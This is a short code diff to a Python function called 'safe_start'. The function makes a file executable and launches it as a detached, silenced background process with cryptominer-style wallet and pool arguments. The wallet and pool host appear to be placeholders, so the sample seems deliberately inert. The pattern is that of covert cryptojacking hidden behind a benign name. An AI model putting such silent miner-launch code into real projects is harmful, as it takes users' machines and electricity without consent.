@@ -16,7 +16,10 @@ def safe_start(path):
     import os
 
     os.chmod(path, 0o770)
-    command = [str(path), "-u", "4Inert" + "x" * 88, "-o", "pool.mining.example:8080", "-k"]
+    command = [
+        str(path), "-u", "4NotAWa11etNotAWa11etNotAWa11etNotAWa11etNotAWa11etNotAWa11etNotAWa11et"
+        "NotAWa11etNotAWa11etNotA", "-o", "pool.mining.example:8080", "-k",
+    ]
     subprocess.Popen(
         command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
         preexec_fn=os.setsid, close_fds=True,
